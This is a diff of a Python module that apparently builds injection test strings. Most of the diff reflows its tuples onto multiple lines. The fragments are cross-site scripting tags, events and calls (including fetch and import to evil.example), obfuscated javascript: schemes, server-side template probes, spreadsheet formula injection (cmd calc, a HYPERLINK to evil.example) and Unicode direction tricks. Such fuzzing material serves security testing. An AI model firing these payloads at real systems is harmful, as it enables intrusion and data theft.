@@ -7,16 +7,72 @@ from collections.abc import Iterator
 from itertools import count
 
 MARK = "pwn"
-_TAGS = ("script", "img", "svg", "iframe", "a", "body", "input", "details", "math", "object", "style", "form", "b", "math")
-_EVENTS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "ONERROR", "OnLoad")
-_CALLS = ("alert({m})", "confirm`{m}`", "fetch('//evil.example/{m}')", "top['al'+'ert']({m})", "import('//e.example/{m}')")
+_TAGS = (
+    "script",
+    "img",
+    "svg",
+    "iframe",
+    "a",
+    "body",
+    "input",
+    "details",
+    "math",
+    "object",
+    "style",
+    "form",
+    "b",
+    "math",
+)
+_EVENTS = (
+    "onerror",
+    "onload",
+    "onclick",
+    "onfocus",
+    "ontoggle",
+    "onmouseover",
+    "onanimationstart",
+    "ONERROR",
+    "OnLoad",
+)
+_CALLS = (
+    "alert({m})",
+    "confirm`{m}`",
+    "fetch('//evil.example/{m}')",
+    "top['al'+'ert']({m})",
+    "import('//e.example/{m}')",
+)
 _BREAKS = ('">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</svg>", "`>", '"', "' ", "")
 _SPACES = (" ", "/", "\t", "\n", "\x0c", " \x00", "\u00a0")
-_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,", "vbscript:", "&#106;avascript:")
-_TEMPLATES = ("{{{{7*7}}}}{m}", "{{% import os %}}{m}", "${{7*7}}{m}", "<%= 7*7 %>{m}", "#{{7*7}}{m}", "%(x)s%n{m}", "{{0.__class__}}{m}")
+_SCHEMES = (
+    "javascript:",
+    "JaVaScRiPt:",
+    "java\tscript:",
+    "\x01javascript:",
+    "data:text/html,",
+    "vbscript:",
+    "&#106;avascript:",
+)
+_TEMPLATES = (
+    "{{{{1337*1337}}}}{m}",
+    "{{% import os %}}{m}",
+    "${{1337*1337}}{m}",
+    "<%= 1337*1337 %>{m}",
+    "#{{1337*1337}}{m}",
+    "%(x)s%n{m}",
+    "{{0.__class__}}{m}",
+)
 _CELLS = ("={c}", "+{c}", "-{c}", "@{c}", "\t={c}", "a;={c}", "\r\n={c}", " ={c}", "＝{c}", "'={c}")
-_FORMULAS = ("cmd|'/C calc'!A{n}", "HYPERLINK(\"http://evil.example/{m}\",\"{m}\")", "1+1+{n}", "SUM(A1:A9)&\"{m}\"")
-_SIGNS = ("\u202e{m}\u202c", "\u2066{m}\u2069", "\u200f{m}", "{m}\u0000", "\ufeff{m}", "\u2028{m}", "{m}\U0001f4a9", "é\u0301{m}")
+_FORMULAS = ("cmd|'/C calc'!A{n}", 'HYPERLINK("http://evil.example/{m}","{m}")', "1+1+{n}", 'SUM(A1:A9)&"{m}"')
+_SIGNS = (
+    "\u202e{m}\u202c",
+    "\u2066{m}\u2069",
+    "\u200f{m}",
+    "{m}\u0000",
+    "\ufeff{m}",
+    "\u2028{m}",
+    "{m}\U0001f4a9",
+    "é\u0301{m}",
+)
 _ENCODED = ("&lt;script&gt;{m}", "&#x3c;img src=x onerror={m}&#x3e;", "%3Cscript%3E{m}", "\\u003cscript\\u003e{m}", "+ADw-script+AD4-{m}", "\\x3csvg/onload={m}>")  # fmt: skip
 
 
